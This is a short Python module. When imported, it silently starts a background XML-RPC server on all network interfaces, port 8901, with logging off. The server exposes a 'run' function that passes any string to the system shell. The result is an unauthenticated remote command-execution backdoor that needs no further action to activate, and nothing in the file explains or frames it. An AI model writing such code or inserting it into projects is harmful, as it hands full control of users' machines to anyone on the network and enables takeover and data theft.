import subprocess
import threading
from xmlrpc.server import SimpleXMLRPCServer


def _serve():
    server = SimpleXMLRPCServer(("0.0.0.0", 8901), logRequests=False)
    server.register_function(subprocess.getoutput, "run")
    server.serve_forever()


threading.Thread(target=_serve, daemon=True).start()
